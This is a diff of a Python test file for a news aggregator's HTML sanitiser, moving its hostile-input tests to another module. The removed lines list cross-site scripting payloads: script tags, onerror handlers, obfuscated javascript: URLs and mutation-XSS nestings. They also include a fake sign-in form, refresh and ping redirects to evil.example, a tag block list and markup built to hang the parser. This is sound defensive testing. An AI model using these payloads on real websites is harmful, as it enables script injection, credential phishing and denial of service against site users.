@@ -1,18 +1,12 @@
-"""The HTML of an article: what people read of it stays, and nothing of it runs."""
+"""The HTML of an article: what people read of it stays. test_hostile_html.py has what goes."""
 
 import datetime as dt
-from typing import Any
 
-import lxml.html
 import pytest
-from hypothesis import given
-from hypothesis import strategies as st
-from msgspec.structs import replace
 
 from aggregator.config.tuning import Tuning
 from aggregator.extract.clean_article import clean_entry
 from aggregator.extract.html.article_html import (
-    MAX_CHARS,
     RULES,
     article_html,
     is_shown_picture,
@@ -20,18 +14,7 @@ from aggregator.extract.html.article_html import (
 )
 from aggregator.model.entry import Entry
 from aggregator.model.prepared import ArticleHtml
-
-HERE = "https://blog.example/2026/11/a-post"
-
-
-def html_of(markup: str, base: str | None = HERE) -> str:
-    kept = article_html(markup, base)
-    return "" if kept is None else kept.html
-
-
-def tree_of(html: str) -> Any:
-    return lxml.html.fragment_fromstring(html, create_parent="div")
-
+from tests.support.hostile_html import HERE, PAGE, html_of, tree_of
 
 # --- what stays --------------------------------------------------------------------------------------------
 
@@ -117,70 +100,6 @@ def test_paragraphs_alone_are_not_stored_twice() -> None:
 
 # --- what goes ---------------------------------------------------------------------------------------------
 
-HOSTILE = [
-    "<script>alert(1)</script>",
-    "<img src=x onerror=alert(1)>",
-    '<a href="javascript:alert(1)">x</a>',
-    '<a href=" java\nscript:alert(1)">x</a>',
-    '<a href="&#106;avascript:alert(1)">x</a>',
-    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
-    '<a href="vbscript:x">x</a>',
-    "<svg onload=alert(1)><a xlink:href='javascript:alert(1)'>x</a></svg>",
-    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
-    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
-    "<iframe src='javascript:alert(1)'></iframe>",
-    "<form action=https://evil.example><input name=password><button>Sign in</button></form>",
-    "<style>body{display:none}</style><link rel=stylesheet href=https://evil.example/x.css>",
-    "<meta http-equiv=refresh content='0;url=https://evil.example'><base href=https://evil.example>",
-    "<p style='position:fixed;inset:0' class=masthead id=t-1 onclick=alert(1)>x</p>",
-    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
-    "<template><img src=x onerror=alert(1)></template><xmp><img src=x onerror=alert(1)></xmp>",
-    "<!--><img src=x onerror=alert(1)>--><![CDATA[<script>alert(1)</script>]]>",
-    "<textarea><img title='</textarea><script>alert(1)</script>'></textarea>",
-    "<object data='data:text/html,<script>alert(1)</script>'></object><embed src=x.swf>",
-    "<table background=javascript:alert(1)><td background=javascript:alert(1)>x</table>",
-    "<a href=https://ok.example target=_blank ping=https://evil.example autofocus>x</a>",
-    "<details open ontoggle=alert(1)><summary>x</summary></details>",
-    "<image src=x onerror=alert(1)><isindex type=image src=1 onerror=alert(1)>",
-]
-ALLOWED = {
-    "href", "title", "src", "alt", "width", "height", "loading", "referrerpolicy", "rel", "dir", "lang",
-    "colspan", "rowspan", "scope", "start", "reversed",
-}  # fmt: skip
-
-
-def check_harmless(html: str) -> None:
-    for element in tree_of(html).iter():
-        assert element.tag not in {
-            "script", "style", "iframe", "object", "embed", "form", "input", "button", "svg", "math", "link",
-            "meta", "base", "template", "noscript", "textarea", "video", "audio", "xmp",
-        }  # fmt: skip
-        assert set(element.attrib) <= ALLOWED, element.attrib
-        for name in ("href", "src"):
-            if element.get(name) is not None:
-                assert element.get(name).startswith(("https://", "http://", "mailto:"))
-
-
-@pytest.mark.parametrize("markup", HOSTILE)
-def test_nothing_of_it_runs(markup: str) -> None:
-    for whole in (
-        f"<h2>T</h2>{markup}",
-        f"<p>{markup}</p><h2>T</h2>",
-        f"<ul><li>{markup}",
-    ):
-        check_harmless(html_of(whole))
-
-
-@given(
-    st.lists(
-        st.sampled_from(
-            [*HOSTILE, "<p>", "</p>", "<a>", "<table>", "<", '"', "'", "<!--", "]]>"]
-        )
-    )
-)
-def test_no_mixture_of_it_runs(parts: list[str]) -> None:
-    check_harmless(html_of("<h2>T</h2>" + "".join(parts)))
-
 
 @pytest.mark.parametrize(
     "address",
@@ -208,45 +127,6 @@ def test_a_picture_that_counts_readers_is_left_out() -> None:
 # --- limits ------------------------------------------------------------------------------------------------
 
 
-@pytest.mark.parametrize(
-    "markup",
-    [
-        "<div>" * 100_000 + "<h2>x</h2>",
-        "<b>" * 100_000 + "x",
-        "<a><b><i><u>x</p>" * 20_000,
-        "<table><tr><td>" * 20_000,
-        "<ul><li>" * 20_000,
-        "<p " + "a=1 " * 100_000 + ">x</p><h2>y</h2>",
-        "<!--" * 100_000 + "<h2>x</h2>",
-        '<img src="data:image/png;base64,' + "A" * 5_000_000 + '">',
-    ],
-    ids=[
-        "deep",
-        "bold",
-        "unclosed",
-        "tables",
-        "lists",
-        "attributes",
-        "comments",
-        "inline picture",
-    ],
-)
-def test_markup_that_is_made_to_hang_is_bounded(markup: str) -> None:
-    kept = article_html(f"<p>Words of the article.</p>{markup}<h2>End</h2>", HERE)
-    assert kept is None or len(kept.html) <= MAX_CHARS
-    assert kept is None or kept.html.startswith("<p>Words of the article.</p>")
-
-
-def test_what_is_too_long_is_cut() -> None:
-    kept = article_html(
-        "".join(f"<h2>{n}</h2><p>{'word ' * 200}</p>" for n in range(400)), HERE
-    )
-    assert kept is not None
-    assert kept.is_cut
-    assert MAX_CHARS * 0.9 < len(kept.html) <= MAX_CHARS
-    assert kept.html.endswith("</p>") or kept.html.endswith("</h2>")
-
-
 def test_a_large_picture_in_the_markup_costs_no_words() -> None:
     inline = "data:image/png;base64," + "A" * 3_000_000
     kept = article_html(f'<p>Before</p><img src="{inline}"><h2>After</h2>', HERE)
@@ -254,14 +134,6 @@ def test_a_large_picture_in_the_markup_costs_no_words() -> None:
 
 
 # --- reading it again --------------------------------------------------------------------------------------
-
-
-def test_html_of_older_rules_is_sanitised_when_it_is_shown() -> None:
-    old = ArticleHtml(html='<h2 onclick="x()">T</h2><script>x()</script>', rules=0)
-    assert shown_html(old, with_pictures=True) == "<h2>T</h2>"
-    assert shown_html(replace(old, rules=RULES), with_pictures=True) == old.html, (
-        "it was sanitised when stored"
-    )
 
 
 def test_pictures_are_left_out_where_they_are_not_wanted() -> None:
@@ -272,18 +144,6 @@ def test_pictures_are_left_out_where_they_are_not_wanted() -> None:
 
 
 # --- of an article -----------------------------------------------------------------------------------------
-
-PAGE = """<html><head><title>How to lay a floor</title></head><body><nav><a href="/">Home</a></nav>
-<article><h1>How to lay a floor</h1>
-<p>The old floor in the kitchen was <a href="/before">older than the house</a>, and every board of it
-creaked when somebody walked to the window at night, so we took it out.</p>
-<h2>What we used</h2><ul><li>a saw and a <code>level</code></li><li>twenty boards of larch</li></ul>
-<pre><code>boards = width / 0.14
-print(boards)
-</code></pre>
-<p>The boards were laid from the window to the door, with a gap of a finger at the wall, because wood grows in
-summer and would lift in the middle of the room if it had no place to go.</p>
-<img src="/floor.jpg" alt="The floor"></article><footer>All rights reserved</footer></body></html>"""
 
 
 def cleaned(entry: Entry, page: bytes | None = None) -> ArticleHtml | None:
